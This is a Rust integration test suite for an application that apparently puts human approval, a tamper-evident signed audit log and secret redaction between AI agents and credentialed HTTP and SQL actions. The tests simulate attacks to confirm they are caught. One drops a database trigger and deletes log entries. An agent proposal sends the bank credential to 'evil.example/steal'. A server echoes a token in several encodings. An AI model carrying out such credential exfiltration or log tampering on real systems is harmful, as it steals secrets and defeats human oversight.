//! The application's audit operations against the real keychain (gnome-keyring in the test
//! command's D-Bus session) and real SQLite files. They fail, never skip, without a keychain.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use countersign_app::{Audit, DataHome, ReportOutcome};
use countersign_audit::{Actor, Event, ExportFormat, Filter, NewEntry};
use sqlx::Connection as _;

fn home() -> (tempfile::TempDir, DataHome) {
    let dir = tempfile::tempdir().unwrap();
    let home = DataHome::at(dir.path().join("home"));
    (dir, home)
}

async fn attacker(home: &DataHome) -> sqlx::SqliteConnection {
    let mut conn =
        sqlx::SqliteConnection::connect(&format!("sqlite://{}", home.audit_db().display()))
            .await
            .unwrap();
    sqlx::query("DROP TRIGGER audit_entries_no_delete")
        .execute(&mut conn)
        .await
        .unwrap();
    conn
}

#[tokio::test]
async fn checkpoints_are_signed_with_the_keychain_key_and_catch_a_deleted_tail() {
    let (dir, home) = home();
    let audit = Audit::open(&home, Actor::person("alice")).await.unwrap();
    for _ in 0..5 {
        audit
            .record(NewEntry::new(
                Actor::agent("claude"),
                Event::ProposalReceived,
            ))
            .await
            .unwrap();
    }
    let file = dir.path().join("checkpoint.json");
    let checkpoint = audit
        .checkpoint(&file)
        .await
        .expect("a keychain must be running (scripts/test.sh starts gnome-keyring)");
    assert_eq!(checkpoint.seq, 5);
    assert!(home.audit_public_key().is_file());
    let verdict = audit.verify(Some(&file)).await.unwrap();
    assert!(verdict.intact(), "{verdict:?}");
    assert_eq!(verdict.checkpoint_seq, Some(5));

    // Delete the tail, including the checkpoint's own entry: both the file and the keychain's
    // memory of the latest checkpoint reveal it.
    let mut conn = attacker(&home).await;
    sqlx::query("DELETE FROM audit_entries WHERE seq > 3")
        .execute(&mut conn)
        .await
        .unwrap();
    let with_file = audit.verify(Some(&file)).await.unwrap();
    assert_eq!(with_file.problem.unwrap().seq, 4);
    // That verdict was itself recorded as entry 4; the keychain still remembers entry 5.
    let keychain_only = Audit::open(&home, Actor::person("bob"))
        .await
        .unwrap()
        .verify(None)
        .await
        .unwrap();
    let problem = keychain_only.problem.unwrap();
    assert_eq!(problem.seq, 5, "{}", problem.what);
    assert!(
        problem.what.contains("deleted from the end"),
        "{}",
        problem.what
    );
}

#[tokio::test]
async fn verifying_and_exporting_are_audited() {
    let (_dir, home) = home();
    let audit = Audit::open(&home, Actor::person("alice")).await.unwrap();
    audit
        .record(NewEntry::new(
            Actor::agent("claude"),
            Event::ProposalReceived,
        ))
        .await
        .unwrap();
    let mut approved = NewEntry::new(Actor::person("alice"), Event::DecisionApproved);
    approved.proposal_id = Some("prop-7".into());
    audit.record(approved).await.unwrap();
    assert!(audit.verify(None).await.unwrap().intact());

    let json = audit
        .export(
            ExportFormat::Json,
            &Filter {
                proposal: Some("prop-7".into()),
                ..Filter::default()
            },
        )
        .await
        .unwrap();
    let exported: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(exported.as_array().unwrap().len(), 1);
    assert_eq!(exported[0]["event"], "decision.approved");
    assert_eq!(exported[0]["actor"]["id"], "person:alice");

    let csv = audit
        .export(
            ExportFormat::Csv,
            &Filter {
                event: Some("audit.verified".into()),
                ..Filter::default()
            },
        )
        .await
        .unwrap();
    assert_eq!(csv.lines().count(), 2, "{csv}");
    assert!(csv.lines().nth(1).unwrap().contains(",intact,"), "{csv}");

    let all = audit
        .export(ExportFormat::Json, &Filter::default())
        .await
        .unwrap();
    let events: Vec<String> = serde_json::from_str::<Vec<serde_json::Value>>(&all)
        .unwrap()
        .iter()
        .map(|e| e["event"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(
        events,
        [
            "proposal.received",
            "decision.approved",
            "audit.verified",
            "audit.exported",
            "audit.exported"
        ]
    );
}

#[tokio::test]
async fn a_broken_log_is_recorded_as_broken() {
    let (_dir, home) = home();
    let audit = Audit::open(&home, Actor::person("alice")).await.unwrap();
    for _ in 0..4 {
        audit
            .record(NewEntry::new(
                Actor::agent("claude"),
                Event::ProposalReceived,
            ))
            .await
            .unwrap();
    }
    let mut conn = attacker(&home).await;
    sqlx::query("DELETE FROM audit_entries WHERE seq = 2")
        .execute(&mut conn)
        .await
        .unwrap();
    let verdict = audit.verify(None).await.unwrap();
    assert_eq!(verdict.problem.unwrap().seq, 2);
    let csv = audit
        .export(
            ExportFormat::Csv,
            &Filter {
                event: Some("audit.verified".into()),
                ..Filter::default()
            },
        )
        .await
        .unwrap();
    assert!(
        csv.contains(",broken,") && csv.contains("first_bad_seq"),
        "{csv}"
    );
}

#[tokio::test]
async fn the_daily_report_lists_security_events_once_a_day() {
    let (_dir, home) = home();
    let audit = Audit::open(&home, Actor::person("alice")).await.unwrap();
    let mut violation = NewEntry::new(Actor::agent("claude"), Event::CredentialScopeViolation);
    violation.credential = Some("acme-bank".into());
    audit.record(violation).await.unwrap();
    let mut refused =
        NewEntry::new(Actor::agent("claude"), Event::ProposalRefused).outcome("secret_in_artifact");
    refused.proposal_id = Some("prop-9".into());
    audit.record(refused).await.unwrap();
    audit
        .record(NewEntry::new(
            Actor::person("alice"),
            Event::SecondFactorFailed,
        ))
        .await
        .unwrap();
    audit
        .record(
            NewEntry::new(Actor::agent("claude"), Event::ProposalRefused).outcome("invalid_json"),
        )
        .await
        .unwrap();

    let ReportOutcome::Written(path, report) = audit.daily_report(false).await.unwrap() else {
        panic!("the first report is due")
    };
    assert_eq!(report.events, 3, "{}", report.text);
    assert!(
        report.text.contains("credential outside its scope")
            && report.text.contains("credential acme-bank")
    );
    assert!(
        report.text.contains("looked like an attack") && report.text.contains("proposal prop-9")
    );
    assert!(!report.text.contains("invalid_json"));
    assert_eq!(std::fs::read_to_string(path).unwrap(), report.text);
    assert!(matches!(
        audit.daily_report(false).await.unwrap(),
        ReportOutcome::NotDue
    ));
    assert!(matches!(
        audit.daily_report(true).await.unwrap(),
        ReportOutcome::Written(..)
    ));
}

#[tokio::test]
async fn start_up_writes_the_report_and_a_checkpoint_once() {
    let (_dir, home) = home();
    let audit = Audit::open(&home, Actor::person("alice")).await.unwrap();
    audit.start_up().await.unwrap();
    audit.start_up().await.unwrap();
    let reports = std::fs::read_dir(home.reports()).unwrap().count();
    let checkpoints = std::fs::read_dir(home.checkpoints()).unwrap().count();
    assert_eq!((reports, checkpoints), (1, 1));
    let events = audit
        .export(ExportFormat::Json, &Filter::default())
        .await
        .unwrap();
    assert_eq!(events.matches("audit.reported").count(), 1);
}

#[tokio::test]
async fn a_replaced_public_key_is_reported() {
    let (dir, home) = home();
    let audit = Audit::open(&home, Actor::person("alice")).await.unwrap();
    audit.checkpoint(&dir.path().join("c.json")).await.unwrap();
    std::fs::write(home.audit_public_key(), format!("{}\n", "ab".repeat(32))).unwrap();
    let problem = audit
        .verify(None)
        .await
        .unwrap()
        .problem
        .expect("a different public key must be reported");
    assert!(problem.what.contains("public key"), "{}", problem.what);
}

/// A server on 127.0.0.1 that reads requests, counts them, and never answers.
fn silent_server() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    use std::io::Read as _;
    use std::sync::Arc;
    use std::sync::atomic::{AtomicUsize, Ordering};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let requests = Arc::new(AtomicUsize::new(0));
    let counter = Arc::clone(&requests);
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let counter = Arc::clone(&counter);
            std::thread::spawn(move || {
                let mut stream = stream;
                let mut buffer = [0u8; 4096];
                if stream.read(&mut buffer).is_ok_and(|n| n > 0) {
                    counter.fetch_add(1, Ordering::SeqCst);
                }
                std::thread::sleep(std::time::Duration::from_secs(120));
            });
        }
    });
    (port, requests)
}

/// One of this crate's examples, built by `cargo test`.
fn example(name: &str) -> std::path::PathBuf {
    let exe = std::env::current_exe().unwrap();
    exe.parent()
        .unwrap()
        .parent()
        .unwrap()
        .join("examples")
        .join(name)
}

/// SIGKILL during an execution: on restart the execution is `outcome_unknown`, and nothing is
/// sent again (the server sees one request, the grant is used up).
#[tokio::test]
async fn kill_9_during_an_execution_is_outcome_unknown_and_never_retried() {
    use std::io::{BufRead as _, BufReader};

    use std::sync::atomic::Ordering;

    let (port, requests) = silent_server();

    let (_dir, home) = home();
    let helper = example("execute_once");
    assert!(
        helper.is_file(),
        "{} is missing: run through cargo test",
        helper.display()
    );
    let mut child = std::process::Command::new(&helper)
        .arg(home.root())
        .arg(format!("http://127.0.0.1:{port}"))
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let grant_line = lines.next().unwrap().unwrap();
    let grant_id = grant_line.strip_prefix("grant ").unwrap().to_owned();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while requests.load(Ordering::SeqCst) == 0 {
        assert!(
            std::time::Instant::now() < deadline,
            "the request never reached the server"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    child.kill().unwrap(); // SIGKILL, mid-request
    child.wait().unwrap();

    let audit = Audit::open(&home, Actor::person("alice")).await.unwrap();
    let executions = countersign_app::Executions::open(
        &home,
        countersign_exec::HttpExecutor::new(),
        countersign_exec::SqlExecutor::new(),
        countersign_exec::EmailExecutor::new(),
    )
    .await
    .unwrap();
    let candidates = ["prop-crash".to_owned(), "prop-never-started".to_owned()];
    assert_eq!(
        executions.recover(&audit, &candidates).await.unwrap(),
        ["prop-crash"]
    );
    assert!(
        executions
            .recover(&audit, &candidates)
            .await
            .unwrap()
            .is_empty(),
        "marked once"
    );
    let events: Vec<String> = serde_json::from_str::<Vec<serde_json::Value>>(
        &audit
            .export(
                ExportFormat::Json,
                &Filter {
                    proposal: Some("prop-crash".into()),
                    ..Filter::default()
                },
            )
            .await
            .unwrap(),
    )
    .unwrap()
    .iter()
    .map(|e| e["event"].as_str().unwrap().to_owned())
    .collect();
    assert_eq!(
        events,
        [
            "grant.consumed",
            "execution.started",
            "execution.outcome_unknown"
        ]
    );

    // Not retried: the grant is used up, and the server saw exactly one request.
    let artifact = countersign_core::Proposal::parse(&format!(
        r#"{{"summary":"","purpose":"","artifact":{{"kind":"http","credential":null,"method":"POST","url":"http://127.0.0.1:{port}/v1/transfers","body":{{"amount":100}}}}}}"#
    ))
    .unwrap()
    .artifact;
    let again = executions
        .execute(&audit, &grant_id, "prop-crash", artifact)
        .await
        .unwrap_err();
    assert!(again.to_string().contains("already used"), "{again}");
    std::thread::sleep(std::time::Duration::from_millis(500));
    assert_eq!(requests.load(Ordering::SeqCst), 1);
    assert!(audit.verify(None).await.unwrap().intact());
}

type Recorded = std::sync::Arc<std::sync::Mutex<Vec<u8>>>;

/// A local HTTP server answering every request with `body`, counting requests and keeping the
/// last request's bytes.
fn recording_server(
    body: &'static str,
) -> (
    u16,
    std::sync::Arc<std::sync::atomic::AtomicUsize>,
    Recorded,
) {
    use std::io::{Read as _, Write as _};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let count = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = std::sync::Arc::clone(&count);
    let recorded: Recorded = Default::default();
    let keep = std::sync::Arc::clone(&recorded);
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut stream = stream;
            let mut request = Vec::new();
            let mut buffer = [0u8; 8192];
            // Read the head, then as many body bytes as Content-Length says.
            while let Ok(n) = stream.read(&mut buffer) {
                if n == 0 {
                    break;
                }
                request.extend_from_slice(&buffer[..n]);
                let text = String::from_utf8_lossy(&request).to_lowercase();
                if let Some(end) = text.find("\r\n\r\n") {
                    let length = text
                        .lines()
                        .find_map(|l| l.strip_prefix("content-length:"))
                        .and_then(|v| v.trim().parse::<usize>().ok())
                        .unwrap_or(0);
                    if request.len() >= end + 4 + length {
                        break;
                    }
                }
            }
            *keep.lock().unwrap() = request;
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let response = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
            let _ = stream.write_all(response.as_bytes());
        }
    });
    (port, count, recorded)
}

/// A data home with one HTTP credential `bank` (secret `token`) for a local server answering
/// `body`, an audit log, the lifecycle and the executors.
struct Loop {
    dir: tempfile::TempDir,
    home: DataHome,
    audit: std::sync::Arc<Audit>,
    lifecycle: countersign_app::Lifecycle,
    port: u16,
    count: std::sync::Arc<std::sync::atomic::AtomicUsize>,
    recorded: Recorded,
}

/// The `bank` credential: a bearer token for the local server on `port`.
fn bank(port: u16, second_factor: bool) -> countersign_core::credential::CredentialMeta {
    countersign_core::credential::CredentialMeta {
        name: "bank".into(),
        description: "Test bank".into(),
        kind: countersign_core::credential::CredentialKind::Http {
            auth: countersign_core::credential::HttpAuth::Bearer,
            scope: countersign_core::credential::HttpScope {
                origins: vec![format!("http://127.0.0.1:{port}")],
                methods: vec![],
                path_prefixes: vec![],
            },
        },
        requires_second_factor: second_factor,
        prescriber: None,
    }
}

async fn serving(second_factor: bool, body: &'static str, token: &str) -> Loop {
    let (dir, home) = home();
    let (port, count, recorded) = recording_server(body);
    let audit = Audit::open(&home, Actor::person("alice")).await.unwrap();
    let credentials = countersign_app::Credentials::open(&home).await.unwrap();
    let meta = bank(port, second_factor);
    credentials
        .add(&audit, &meta, &countersign_vault::Secret::new(token.into()))
        .await
        .expect("a keychain must be running");
    let audit = std::sync::Arc::new(audit);
    let lifecycle = countersign_app::Lifecycle::open_standard(&home, std::sync::Arc::clone(&audit))
        .await
        .unwrap();
    Loop {
        dir,
        home,
        audit,
        lifecycle,
        port,
        count,
        recorded,
    }
}

async fn loop_setup(
    second_factor: bool,
) -> (
    tempfile::TempDir,
    DataHome,
    std::sync::Arc<Audit>,
    countersign_app::Lifecycle,
    u16,
    std::sync::Arc<std::sync::atomic::AtomicUsize>,
) {
    let l = serving(
        second_factor,
        r#"{"balance":1200,"account":"4410","owner":{"ssn":"123-45-6789"}}"#,
        "bank-token-secret-0001",
    )
    .await;
    (l.dir, l.home, l.audit, l.lifecycle, l.port, l.count)
}

fn balance_proposal(port: u16) -> String {
    format!(
        r#"{{"summary":"Check the balance","purpose":"monthly budget","artifact":{{"kind":"http","credential":"bank","method":"GET","url":"http://127.0.0.1:{port}/v1/balance"}}}}"#
    )
}

#[tokio::test]
async fn the_whole_loop_propose_approve_execute_release() {
    let (_dir, _home, audit, lifecycle, port, count) = loop_setup(false).await;
    let key = lifecycle.agents().add("claude").await.unwrap();
    assert_eq!(
        lifecycle
            .agents()
            .authenticate(key.expose())
            .await
            .unwrap()
            .as_deref(),
        Some("claude")
    );
    assert_eq!(
        lifecycle.agents().authenticate("csa_wrong").await.unwrap(),
        None
    );

    let record = lifecycle
        .submit("claude", &balance_proposal(port))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(record.status, "pending");
    assert_eq!(lifecycle.store().pending().await.unwrap().len(), 1);
    assert_eq!(
        count.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "nothing runs before approval"
    );

    // A long-poll waits while the person decides and while they choose what to release: a
    // success whose release is not chosen yet is not settled for the agent (design.md §13).
    let waiter = {
        let id = record.id.clone();
        let lifecycle = &lifecycle;
        async move {
            lifecycle
                .store()
                .wait_for_agent("claude", &id, std::time::Duration::from_secs(2))
                .await
                .unwrap()
                .unwrap()
        }
    };
    let approve = async {
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        lifecycle.view(&record.id).await.unwrap();
        lifecycle.approve(&record.id, None).await.unwrap()
    };
    let (woken, approved) = tokio::join!(waiter, approve);
    assert_eq!(
        woken.status, "succeeded",
        "the wait ended at its time, not at the approval"
    );
    assert!(woken.released.is_none());
    assert_eq!(approved.status, "succeeded");
    assert_eq!(
        approved.result.as_ref().unwrap().to_display()["body"]["balance"],
        1200
    );
    assert_eq!(count.load(std::sync::atomic::Ordering::SeqCst), 1);
    // Before release, the agent sees the status and nothing of the result.
    assert_eq!(
        lifecycle
            .store()
            .get_for_agent("claude", &record.id)
            .await
            .unwrap()
            .unwrap()
            .agent_view()
            .to_display()["result"],
        serde_json::Value::Null
    );
    assert!(
        lifecycle
            .store()
            .get_for_agent("other-agent", &record.id)
            .await
            .unwrap()
            .is_none()
    );

    // A wait that starts before the release returns when it is chosen.
    let waiter =
        lifecycle
            .store()
            .wait_for_agent("claude", &record.id, std::time::Duration::from_secs(20));
    let release = async {
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
        lifecycle
            .release(
                &record.id,
                &countersign_app::Release::Fields(vec!["body.balance".into()]),
            )
            .await
            .unwrap()
    };
    let started = std::time::Instant::now();
    let (woken, released) = tokio::join!(waiter, release);
    assert!(started.elapsed() < std::time::Duration::from_secs(10));
    assert!(woken.unwrap().unwrap().released.is_some());
    let view = released.agent_view().to_display();
    assert_eq!(view["result"]["released"], true);
    assert_eq!(
        view["result"]["data"],
        serde_json::json!({ "body": { "balance": 1200 } })
    );
    assert!(!view.to_string().contains("123-45-6789"));
    assert!(
        view["result"]["withheld"]
            .as_array()
            .unwrap()
            .iter()
            .any(|w| w == "body.owner.ssn")
    );

    // A second approval of the same proposal is refused: it is no longer pending.
    assert!(lifecycle.approve(&record.id, None).await.is_err());
    let events: Vec<String> = serde_json::from_str::<Vec<serde_json::Value>>(
        &audit
            .export(
                ExportFormat::Json,
                &Filter {
                    proposal: Some(record.id.clone()),
                    ..Filter::default()
                },
            )
            .await
            .unwrap(),
    )
    .unwrap()
    .iter()
    .map(|e| e["event"].as_str().unwrap().to_owned())
    .collect();
    assert_eq!(
        events,
        [
            "proposal.received",
            "proposal.viewed",
            "decision.approved",
            "grant.consumed",
            "execution.started",
            "execution.succeeded",
            "result.released"
        ]
    );
    assert!(audit.verify(None).await.unwrap().intact());
}

#[tokio::test]
async fn reject_withdraw_refuse_and_revoke() {
    let (_dir, _home, audit, lifecycle, port, count) = loop_setup(false).await;
    lifecycle.agents().add("claude").await.unwrap();
    let a = lifecycle
        .submit("claude", &balance_proposal(port))
        .await
        .unwrap()
        .unwrap();
    let rejected = lifecycle.reject(&a.id, "not this month").await.unwrap();
    assert_eq!(
        rejected.agent_view().to_display()["decision"]["reason"],
        "not this month"
    );
    let b = lifecycle
        .submit("claude", &balance_proposal(port))
        .await
        .unwrap()
        .unwrap();
    assert!(lifecycle.withdraw("someone-else", &b.id).await.is_err());
    assert_eq!(
        lifecycle.withdraw("claude", &b.id).await.unwrap().status,
        "withdrawn"
    );
    let off_scope = r#"{"summary":"x","purpose":"y","artifact":{"kind":"http","credential":"bank","method":"GET","url":"https://evil.example/steal"}}"#;
    let refusal = lifecycle
        .submit("claude", off_scope)
        .await
        .unwrap()
        .unwrap_err();
    assert_eq!(
        refusal.code,
        countersign_core::RefusalCode::CredentialScopeViolation
    );
    let csv = audit
        .export(ExportFormat::Csv, &Filter::default())
        .await
        .unwrap();
    assert!(
        csv.contains("proposal.refused")
            && csv.contains("credential.scope_violation")
            && csv.contains("decision.rejected")
            && csv.contains("proposal.withdrawn")
    );
    assert_eq!(count.load(std::sync::atomic::Ordering::SeqCst), 0);

    let key = lifecycle.agents().add("cursor").await.unwrap();
    lifecycle.agents().revoke("cursor").await.unwrap();
    assert_eq!(
        lifecycle.agents().authenticate(key.expose()).await.unwrap(),
        None,
        "revocation takes effect at once"
    );
    assert!(
        lifecycle
            .agents()
            .list()
            .await
            .unwrap()
            .iter()
            .any(|a| a.name == "cursor" && a.revoked_at.is_some())
    );
}

#[tokio::test]
async fn a_second_factor_is_required_when_the_credential_says_so() {
    let (_dir, home, audit, lifecycle, port, count) = loop_setup(true).await;
    lifecycle.agents().add("claude").await.unwrap();
    let record = lifecycle
        .submit("claude", &balance_proposal(port))
        .await
        .unwrap()
        .unwrap();
    assert!(record.explanation.requires_second_factor);
    let error = lifecycle
        .approve(&record.id, Some("123456"))
        .await
        .unwrap_err();
    assert!(error.to_string().contains("none is set up"), "{error}");
    let secret = enrol_second_factor(&home);
    let wrong = lifecycle.approve(&record.id, Some("000000")).await;
    assert!(wrong.unwrap_err().to_string().contains("not right"));
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let code = countersign_app::totp::code(&countersign_app::totp::decode(&secret).unwrap(), now);
    assert_eq!(
        lifecycle
            .approve(&record.id, Some(&code))
            .await
            .unwrap()
            .status,
        "succeeded"
    );
    assert_eq!(count.load(std::sync::atomic::Ordering::SeqCst), 1);
    let csv = audit
        .export(ExportFormat::Csv, &Filter::default())
        .await
        .unwrap();
    assert!(
        csv.contains("second_factor.failed")
            && csv.contains("second_factor.succeeded")
            && csv.contains(r#"auth_method"":""totp"#)
    );
}

#[tokio::test]
async fn the_desk_enforces_reading_time_the_danger_word_and_the_lock() {
    use countersign_app::views::{CredentialForm, ReleaseChoice, ReleaseKind};
    use countersign_app::{Desk, DeskOptions, Settings};

    let (dir, home) = home();
    let db = dir.path().join("billing.db");
    {
        let options = sqlx::sqlite::SqliteConnectOptions::new()
            .filename(&db)
            .create_if_missing(true);
        let mut conn = sqlx::SqliteConnection::connect_with(&options)
            .await
            .unwrap();
        sqlx::query("CREATE TABLE invoices (id INTEGER, status TEXT)")
            .execute(&mut conn)
            .await
            .unwrap();
        sqlx::query("INSERT INTO invoices VALUES (1, 'open'), (2, 'open')")
            .execute(&mut conn)
            .await
            .unwrap();
    }
    let (desk, unknown) = Desk::open(home.clone(), Actor::person("alice"), DeskOptions::default())
        .await
        .unwrap();
    assert!(unknown.is_empty());
    let second = Desk::open(home.clone(), Actor::person("bob"), DeskOptions::default()).await;
    assert!(second.is_err(), "one reviewer per data home");

    let form = CredentialForm {
        name: "billing".into(),
        kind: "sql".into(),
        dialect: "sqlite".into(),
        url: format!("sqlite://{}", db.display()),
        read_write: true,
        max_rows: 100,
        release_default: countersign_app::views::ReleaseRule::Never,
        ..CredentialForm::default()
    };
    desk.add_credential(
        &form,
        &countersign_vault::Secret::new("unused-sqlite-secret".into()),
    )
    .await
    .unwrap();
    assert_eq!(
        desk.credentials().await.unwrap()[0].release_default,
        countersign_app::views::ReleaseRule::Never
    );
    desk.lifecycle().agents().add("claude").await.unwrap();
    let text = r#"{"summary":"Close invoice 1","purpose":"p","artifact":{"kind":"sql","database":"billing","statement":"UPDATE invoices SET status = 'closed'"}}"#;
    let record = desk
        .lifecycle()
        .submit("claude", text)
        .await
        .unwrap()
        .unwrap();

    // Not before it has been on screen.
    let early = desk
        .approve(&record.id, None, None)
        .await
        .unwrap_err()
        .to_string();
    assert!(early.contains("Read the proposal first"), "{early}");
    let view = desk.proposal(&record.id).await.unwrap();
    let word = view
        .confirmation_word
        .clone()
        .expect("an update of every row is a danger");
    tokio::time::sleep(countersign_app::MINIMUM_VIEW).await;
    let no_word = desk
        .approve(&record.id, None, None)
        .await
        .unwrap_err()
        .to_string();
    assert!(no_word.contains(&word), "{no_word}");
    let done = desk
        .approve(&record.id, Some(&word.to_uppercase()), None)
        .await
        .unwrap();
    assert_eq!(done.line.status, "succeeded");
    assert_eq!(done.result.as_ref().unwrap()["rows_affected"], 2);
    // The credential releases nothing by default: applied at once.
    assert_eq!(done.released.as_ref().unwrap()["released"], false);
    let preview = desk
        .release_preview(
            &record.id,
            &ReleaseChoice {
                kind: ReleaseKind::All,
                fields: vec![],
            },
        )
        .await
        .unwrap();
    assert_eq!(preview["data"]["rows_affected"], 2);

    // Locked: nothing answers until unlocked (no second factor enrolled: a deliberate unlock).
    desk.lock("test").await.unwrap();
    assert!(
        desk.inbox()
            .await
            .unwrap_err()
            .to_string()
            .contains("locked")
    );
    assert!(desk.status().await.unwrap().locked);
    desk.unlock(None).await.unwrap();
    assert!(desk.inbox().await.is_ok());

    // Auto-lock after inactivity, recorded.
    let settings = Settings {
        auto_lock_seconds: 1,
        threshold: None,
    };
    desk.save_settings(&settings).await.unwrap();
    tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
    assert!(
        desk.tick().await.unwrap(),
        "locked after a second without input"
    );
    let verdict = desk.verify_audit().await.unwrap_err().to_string();
    assert!(verdict.contains("locked"));
    desk.unlock(None).await.unwrap();
    let events: Vec<String> = desk
        .audit_entries(&countersign_app::views::AuditQuery::default())
        .await
        .unwrap()
        .into_iter()
        .map(|l| l.event)
        .collect();
    for event in [
        "settings.changed",
        "app.locked",
        "app.unlocked",
        "decision.approved",
        "result.released",
        "credential.added",
    ] {
        assert!(events.iter().any(|e| e == event), "{event} in {events:?}");
    }
    assert!(desk.verify_audit().await.unwrap().intact);
}

/// The artifact's exact bytes are what is hashed, approved, sent and shown; the result keeps the
/// server's number text all the way to the agent (issue 12: `12.50`, `1e2`, `-0` and a 30-digit
/// integer used to make a proposal impossible to approve, and ids reached the agent rounded).
#[tokio::test]
async fn exact_bytes_are_approved_sent_and_released() {
    let Loop {
        dir,
        home: _,
        audit: _,
        lifecycle,
        port,
        count,
        recorded,
    } = serving(
        false,
        r#"{"id":123456789012345678901234567890,"amount":12.50,"rate":1e2,"zero":-0}"#,
        "bank-token-secret-0002",
    )
    .await;
    lifecycle.agents().add("claude").await.unwrap();
    let body = r#"{"amount":12.50,"id":123456789012345678901234567890,"rate":1e2,"zero":-0}"#;
    let proposal = format!(
        r#"{{"summary":"Record the order","purpose":"order 7","artifact":{{"kind":"http","credential":"bank","method":"POST","url":"http://127.0.0.1:{port}/v1/orders","headers":{{"Content-Type":"application/json"}},"body":{body}}}}}"#
    );
    let record = lifecycle
        .submit("claude", &proposal)
        .await
        .unwrap()
        .unwrap();
    assert!(record.artifact.contains(body), "{}", record.artifact);
    let done = lifecycle.approve(&record.id, None).await.unwrap();
    assert_eq!(done.status, "succeeded");
    assert_eq!(count.load(std::sync::atomic::Ordering::SeqCst), 1);
    let sent = String::from_utf8(recorded.lock().unwrap().clone()).unwrap();
    assert!(sent.ends_with(body), "the server received: {sent}");
    let released = lifecycle
        .release(
            &record.id,
            &countersign_app::Release::Fields(vec!["body.id".into(), "body.amount".into()]),
        )
        .await
        .unwrap();
    let agent = released.agent_view().canonical();
    assert!(
        agent.contains(r#""id":123456789012345678901234567890"#)
            && agent.contains(r#""amount":12.50"#),
        "{agent}"
    );
    drop(dir);
}

/// A withdraw racing an approval: exactly one of them happens, and the log records exactly that
/// one (it used to record "withdrawn" for something that ran).
#[tokio::test]
async fn a_withdraw_racing_an_approval_is_logged_as_what_happened() {
    let (_dir, _home, audit, lifecycle, port, count) = loop_setup(false).await;
    lifecycle.agents().add("claude").await.unwrap();
    for _ in 0..12 {
        let record = lifecycle
            .submit("claude", &balance_proposal(port))
            .await
            .unwrap()
            .unwrap();
        let (withdrawn, approved) = tokio::join!(
            lifecycle.withdraw("claude", &record.id),
            lifecycle.approve(&record.id, None),
        );
        assert!(
            withdrawn.is_ok() != approved.is_ok(),
            "exactly one wins: {withdrawn:?} {approved:?}"
        );
        let log = audit
            .export(
                ExportFormat::Json,
                &Filter {
                    proposal: Some(record.id.clone()),
                    ..Filter::default()
                },
            )
            .await
            .unwrap();
        let withdrawals = log.matches("proposal.withdrawn").count();
        let approvals = log.matches("decision.approved").count();
        assert_eq!(withdrawals + approvals, 1, "{log}");
        assert_eq!(withdrawals == 1, withdrawn.is_ok(), "{log}");
    }
    assert!(count.load(std::sync::atomic::Ordering::SeqCst) <= 12);
    assert!(audit.verify(None).await.unwrap().intact());
}

/// A server that echoes the token in the encodings real servers use: nothing of it reaches the
/// agent's view, the person's view or any file of the data home, in any encoding.
#[tokio::test]
async fn an_echoed_token_reaches_no_file_of_the_data_home() {
    use base64::Engine as _;
    let token = "bank-token-secret-0001";
    let slot = format!("Bearer {token}");
    let body: &'static str = Box::leak(
        format!(
            r#"{{"echo":"{}","debug":"{}","hex":"{}","q":"{}","balance":5}}"#,
            token.replace('-', "\\u002d"),
            base64::engine::general_purpose::STANDARD.encode(&slot),
            token
                .bytes()
                .map(|b| format!("{b:02X}"))
                .collect::<String>(),
            token
                .bytes()
                .map(|b| format!("%{b:02x}"))
                .collect::<String>(),
        )
        .into_boxed_str(),
    );
    let Loop {
        dir,
        home,
        audit,
        lifecycle,
        port,
        ..
    } = serving(false, body, token).await;
    lifecycle.agents().add("claude").await.unwrap();
    let record = lifecycle
        .submit("claude", &balance_proposal(port))
        .await
        .unwrap()
        .unwrap();
    lifecycle.approve(&record.id, None).await.unwrap();
    let released = lifecycle
        .release(&record.id, &countersign_app::Release::All)
        .await
        .unwrap();
    let finder = countersign_core::secret::SecretFinder::new([token]);
    assert!(!finder.found_in(released.agent_view().canonical().as_bytes()));
    assert!(!finder.found_in(released.result.as_ref().unwrap().canonical().as_bytes()));
    drop((lifecycle, audit));
    let mut stack = vec![home.root().to_path_buf()];
    let mut files = 0;
    while let Some(path) = stack.pop() {
        if path.is_dir() {
            stack.extend(std::fs::read_dir(&path).unwrap().map(|e| e.unwrap().path()));
        } else {
            // SQLite removes its -wal and -shm files as connections close.
            if let Ok(bytes) = std::fs::read(&path) {
                files += 1;
                assert!(
                    !finder.found_in(&bytes),
                    "{} holds the token",
                    path.display()
                );
            }
        }
    }
    assert!(
        files >= 3,
        "proposals, grants and the audit log were written"
    );
    drop(dir);
}

/// Explains a proposal with only these descriptors (no credentials, no settings).
fn explain_with_pack(pack: &str, proposal: &str) -> countersign_core::Explanation {
    let descriptors = countersign_core::descriptor::Descriptors::with_user_files(&[(
        "imported.toml".to_owned(),
        pack.to_owned(),
    )])
    .unwrap();
    let registry = countersign_core::credential::Registry::default();
    let settings = countersign_core::Settings::default();
    let context = countersign_core::Context {
        registry: &registry,
        secrets: &[],
        descriptors: &descriptors,
        settings: &settings,
    };
    let proposal = countersign_core::Proposal::parse(proposal).unwrap();
    countersign_core::explain(&proposal, &context)
        .unwrap()
        .explanation
}

